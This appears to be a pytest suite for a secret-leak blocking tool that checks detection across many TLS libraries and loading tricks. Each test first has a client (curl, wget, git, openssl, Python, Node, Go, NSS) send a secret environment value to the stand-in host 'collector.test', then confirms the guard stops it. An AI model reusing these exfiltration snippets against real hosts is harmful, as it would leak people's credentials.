# SPDX-License-Identifier: MIT
"""Plaintext is looked into wherever the TLS library is: installed, inside, or brought along.

Every case is first run unguarded, where the collector gets the secret, then guarded.
"""

from __future__ import annotations

import os
import shutil
import ssl
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from lab import Lab, opened_late
from lab.guard import Guarded
from lab.opened_late import LIBSSL
from lab.tokens import Token
from leakstop.secrets.encodings import HPACK_HUFFMAN, RAW, needles_of
from leakstop.secrets.inventory import Secret
from leakstop.sensor.tls.follower import LATE

pytestmark = [pytest.mark.root, pytest.mark.timeout(120)]

Guard = Callable[..., Guarded]
Command = list[str | Path]

HERE = Path(__file__).parent
HOST = "collector.test"
DESCRIPTOR = 9
ALLOW = f"version: 1\nallow: {HOST}\n"

PYTHON = f"""
import os, socket, ssl
context = ssl.create_default_context(cafile=os.environ["CA"])
peer = socket.create_connection(("{HOST}", 443))
with context.wrap_socket(peer, server_hostname="{HOST}") as tls:
    tls.sendall(b"GET /?x=%s HTTP/1.1\\r\\nHost: {HOST}\\r\\n\\r\\n" % os.environb[b"SECRET"])
    tls.recv(1000)
"""
UPLOAD = f"""
import os, socket, ssl, sys
context = ssl.create_default_context(cafile=os.environ["CA"])
peer = socket.create_connection(("{HOST}", 443))
with context.wrap_socket(peer, server_hostname="{HOST}") as tls:
    tls.sendall(open(sys.argv[1], "rb").read())
    tls.shutdown(socket.SHUT_WR)
    while tls.recv(1000):  # else the connection is reset for what was not read
        pass
"""
NODE = f"""
const ca = require("fs").readFileSync(process.env.CA)
const path = "/?x=" + process.env.SECRET
require("https").get({{host: "{HOST}", path, ca}}, answer => answer.resume())
"""
GO = f"""package main

import (
	"crypto/tls"
	"os"
)

func main() {{
	c, err := tls.Dial("tcp", "{HOST}:443", &tls.Config{{InsecureSkipVerify: true}})
	if err != nil {{
		os.Exit(1)
	}}
	c.Write([]byte("GET /?x=" + os.Getenv("SECRET") + " HTTP/1.1\\r\\n\\r\\n"))
	c.Read(make([]byte, 100))
}}
"""
# The secret stands on no command line: those are another test's business.
CURL = f"""printf 'header = "X-Token: %s"\\n' "$SECRET" |
curl -s -m 10 --cacert "$CA" -K - https://{HOST}/"""
WGET = f"""printf 'header = X-Token: %s\\n' "$SECRET" > wgetrc
WGETRC=wgetrc wget -q -O - --ca-certificate="$CA" https://{HOST}/"""
GIT = f"""printf '[http]\\nextraHeader = "X-Token: %s"\\n' "$SECRET" > gitconfig
GIT_CONFIG_GLOBAL=gitconfig GIT_SSL_CAINFO="$CA" git ls-remote https://{HOST}/a.git || true"""
S_CLIENT = f"""printf 'GET /?x=%s HTTP/1.0\\r\\n\\r\\n' "$SECRET" |
openssl s_client -quiet -connect {HOST}:443 2> /dev/null || true"""

# No client of Debian speaks TLS with NSS, so its own functions are called.
NSS = f"""
import ctypes, os, socket, struct
nspr, nss, ssl = (ctypes.CDLL(name) for name in ("libnspr4.so", "libnss3.so", "libssl3.so"))
nspr.PR_NewTCPSocket.restype = ssl.SSL_ImportFD.restype = ctypes.c_void_p
nss.NSS_NoDB_Init(None)
ssl.NSS_SetDomesticPolicy()
trust = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_void_p] * 2, *[ctypes.c_int] * 2)(lambda *_: 0)
peer = ctypes.c_void_p(ssl.SSL_ImportFD(None, ctypes.c_void_p(nspr.PR_NewTCPSocket())))
ssl.SSL_SetURL(peer, b"{HOST}")
ssl.SSL_AuthCertificateHook(peer, trust, None)
place = struct.pack("!H", 443) + socket.inet_aton(socket.gethostbyname("{HOST}"))
assert nspr.PR_Connect(peer, struct.pack("=H", socket.AF_INET) + place + bytes(100), -1) == 0
request = b"GET /?x=%s HTTP/1.0\\r\\n\\r\\n" % os.environb[b"SECRET"]
assert nspr.PR_Write(peer, request, len(request)) == len(request)
nspr.PR_Read(peer, ctypes.create_string_buffer(1000), 1000)
"""

CLIENTS: dict[str, tuple[Command, str]] = {
    "python": (["/usr/bin/python3", "-c", PYTHON], "OpenSSL"),
    "node": (["node", "-e", NODE], "OpenSSL"),
    "openssl": (["sh", "-ec", S_CLIENT], "OpenSSL"),
    "curl": (["sh", "-ec", CURL], "OpenSSL"),
    "wget": (["sh", "-ec", WGET], "GnuTLS"),
    "git": (["sh", "-ec", GIT], "GnuTLS"),
    "nss": (["/usr/bin/python3", "-c", NSS], "NSS"),
}
DEBIANS_CRATES = (
    "--config=source.crates-io.replace-with='debian'",
    "--config=source.debian.directory='/usr/share/cargo/registry'",
)
GO_BUILDS = {
    "symbols": ["-buildvcs=false"],
    "stripped": ["-ldflags=-s -w"],
    "stripped-pie": ["-ldflags=-s -w", "-buildmode=pie"],
}


def check(
    lab: Lab,
    leakstop: Guard,
    secret: Token,
    command: Command,
    library: str,
    *,
    mode: str = "audit",
    policy: str = "",
) -> Guarded:
    """Run a client unguarded and guarded, and hold both against each other."""
    environment = {"SECRET": secret.value, "CA": str(lab.directory / "ca.pem")}
    value = secret.value.encode()
    done = lab.run(["env", "-C", lab.directory, *command], env=environment)
    assert lab.collector.bytes_of(value) == len(value), done.stderr
    lab.collector.connections.clear()

    run = leakstop(
        ["env", "-C", lab.directory, *command],
        mode=mode,
        policy=policy,
        secrets=[secret],
        env=environment,
    )
    assert lab.collector.bytes_of(value) == 0, run.stderr
    writes = run.events("write")
    assert writes, f"nothing was seen: {run.events('opaque')} {run.stderr}"
    assert {write["library"] for write in writes} == {library}
    assert {write["applied"] for write in writes} == {"deny"}
    # On a busy machine the library may be looked at just after the hello.
    assert {event["why"] for event in run.events("opaque")} <= {LATE}
    assert run.shows(secret) == []
    return run


@pytest.mark.parametrize("client", sorted(CLIENTS))
def test_installed(lab: Lab, leakstop: Guard, secret: Token, client: str) -> None:
    command, library = CLIENTS[client]
    check(lab, leakstop, secret, command, library)


@pytest.mark.parametrize("client", ["curl", "node"])
def test_an_allowed_host_is_no_free_drop(
    lab: Lab, leakstop: Guard, secret: Token, client: str
) -> None:
    command, library = CLIENTS[client]
    check(lab, leakstop, secret, command, library, mode="block", policy=ALLOW)


@pytest.mark.parametrize("build", sorted(GO_BUILDS))
def test_go_needs_no_symbols(
    lab: Lab, leakstop: Guard, secret: Token, tmp_path: Path, build: str
) -> None:
    source, program = tmp_path / "main.go", lab.directory / "client"
    source.write_text(GO)
    subprocess.run(
        ["go", "build", *GO_BUILDS[build], "-o", program, source],
        check=True,
        env=os.environ | {"GO111MODULE": "off", "GOFLAGS": ""},
    )
    check(lab, leakstop, secret, [program], "Go")


@pytest.fixture(scope="module")
def rustls_client(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A program with the rustls of this distribution, and its symbols."""
    place = tmp_path_factory.mktemp("rustls")
    shutil.copytree(HERE / "rustls_client", place, dirs_exist_ok=True)
    build = ["/usr/bin/cargo", "build", "-q", "--offline", "--release", *DEBIANS_CRATES]
    subprocess.run(build, check=True, cwd=place, env=os.environ | {"RUSTC": "/usr/bin/rustc"})
    return place / "target/release/client"


@pytest.mark.timeout(400)  # the program is built first
@pytest.mark.parametrize("written", ["whole", "in pieces"])
def test_rustls(
    lab: Lab, leakstop: Guard, secret: Token, rustls_client: Path, written: str
) -> None:
    program, root = lab.directory / "client", lab.directory / "ca.der"
    shutil.copy(rustls_client, program)
    root.write_bytes(ssl.PEM_cert_to_DER_cert((lab.directory / "ca.pem").read_text()))
    check(lab, leakstop, secret, [program, HOST, root, written], "rustls")


@pytest.mark.parametrize(
    ("begin", "encoding"),
    [(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", HPACK_HUFFMAN), (b"POST / HTTP/1.1\r\n", RAW)],
    ids=["http2", "http1"],
)
def test_deep_in_what_is_no_text(
    lab: Lab, leakstop: Guard, secret: Token, begin: bytes, encoding: str
) -> None:
    """From 64 KiB on packed headers are looked for only where HTTP/2 is spoken."""
    forms = needles_of(Secret("S", secret.value.encode()))
    form = next(form.data for form in forms if form.encoding == encoding)
    noise = bytes(byte | 0x80 for byte in os.urandom(1 << 17))
    body = lab.directory / "body"
    body.write_bytes(begin + noise + form + noise)
    command: Command = ["/usr/bin/python3", "-c", UPLOAD, body]
    environment = {"CA": str(lab.directory / "ca.pem")}
    assert lab.run(command, env=environment).returncode == 0
    lab.settle()
    assert lab.collector.bytes_of(form) == len(form)
    lab.collector.connections.clear()

    run = leakstop(command, mode="block", policy=ALLOW, secrets=[secret], env=environment)
    assert lab.collector.bytes_of(form) == 0, run.stderr
    (write,) = run.events("write")
    assert [hit["encoding"] for hit in write["hits"]] == [encoding]
    assert write["applied"] == "deny"


@pytest.fixture
def opener(lab: Lab) -> Path:
    """A client that loads the library whose file it is told."""
    return opened_late.build(lab.directory / "opener")


def test_a_copy_under_another_name(lab: Lab, leakstop: Guard, secret: Token, opener: Path) -> None:
    """As wheels bring it along."""
    copy = lab.directory / "some.libs" / "libq-5f3a91c2.so.3"
    copy.parent.mkdir()
    shutil.copy(LIBSSL, copy)
    check(lab, leakstop, secret, [opener, copy, HOST], "OpenSSL")


def test_a_library_replaced_while_in_use(
    lab: Lab, leakstop: Guard, secret: Token, opener: Path
) -> None:
    copy, other = lab.directory / "libtls.so", lab.directory / "libtls.so.new"
    shutil.copy(LIBSSL, copy)
    script = f"""cp {copy} {other}
SECRET=nothing {opener} {copy} {HOST}
mv {other} {copy}
exec {opener} {copy} {HOST}"""
    run = check(lab, leakstop, secret, ["sh", "-ec", script], "OpenSSL")
    assert len(run.events("streamseen")) == 2
    assert len(run.events("write")) == 1


def test_a_library_without_a_name(lab: Lab, leakstop: Guard, secret: Token, opener: Path) -> None:
    """In memory (memfd_create(2)), or deleted since."""
    script = f"""
import os
memory = os.memfd_create("x", 0)
os.write(memory, open("{LIBSSL}", "rb").read())
os.dup2(memory, {DESCRIPTOR})
os.execv("{opener}", ["opener", "/proc/self/fd/{DESCRIPTOR}", "{HOST}"])
"""
    check(lab, leakstop, secret, ["/usr/bin/python3", "-c", script], "OpenSSL")


@pytest.mark.parametrize("layers", [False, True], ids=["a tree", "layers"])
def test_another_root(lab: Lab, leakstop: Guard, secret: Token, opener: Path, layers: bool) -> None:
    """A container has files whose names mean others here, and its image layers (overlayfs)."""
    root, upper, work = (lab.directory / name for name in ("root", "upper", "work"))
    listing = subprocess.run(["ldd", opener, LIBSSL], check=True, capture_output=True, text=True)
    libraries = {word for word in listing.stdout.split() if word.startswith("/")}
    for name in (*libraries - {f"{opener}:"}, "/lib/x86_64-linux-gnu/libnss_dns.so.2"):
        if Path(name).is_file():
            (root / name[1:]).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(name, root / name[1:])
    shutil.copy(opener, root / "opener")
    shutil.copy(LIBSSL, root / "inner.so")
    (root / "etc").mkdir(exist_ok=True)
    for name in ("resolv.conf", "nsswitch.conf"):
        (root / "etc" / name).touch()
    laid = f"mount -t overlay -o lowerdir={root},upperdir={upper},workdir={work} none {root}"
    for made in (upper, work):
        made.mkdir()
    script = f"""{laid if layers else ":"}
mount --bind /etc/resolv.conf {root}/etc/resolv.conf
mount --bind /etc/nsswitch.conf {root}/etc/nsswitch.conf
exec chroot {root} /opener /inner.so {HOST}"""
    check(lab, leakstop, secret, ["unshare", "-m", "sh", "-ec", script], "OpenSSL")


@pytest.mark.parametrize(("mode", "policy"), [("audit", ""), ("block", ALLOW)])
def test_what_cannot_be_seen_is_said(
    lab: Lab, leakstop: Guard, secret: Token, mode: str, policy: str
) -> None:
    """A program that speaks TLS with nothing that is known, here: by hand."""
    script = f"""
import socket, time
name = b"{HOST}"
entry = b"\\0" + len(name).to_bytes(2, "big") + name
names = len(entry).to_bytes(2, "big") + entry
extensions = b"\\0\\0" + len(names).to_bytes(2, "big") + names
body = b"\\3\\3" + bytes(32) + b"\\0" + b"\\0\\2\\x13\\1" + b"\\1\\0"
body += len(extensions).to_bytes(2, "big") + extensions
hello = b"\\1" + len(body).to_bytes(3, "big") + body
peer = socket.create_connection((name, 443))
peer.sendall(b"\\x16\\3\\1" + len(hello).to_bytes(2, "big") + hello)
peer.recv(1)
"""
    command = ["/usr/bin/python3", "-c", script]
    run = leakstop(command, mode=mode, policy=policy, secrets=[secret])
    opaque = run.events("opaque")
    assert [event["why"] for event in opaque] == ["no TLS library that is known"]
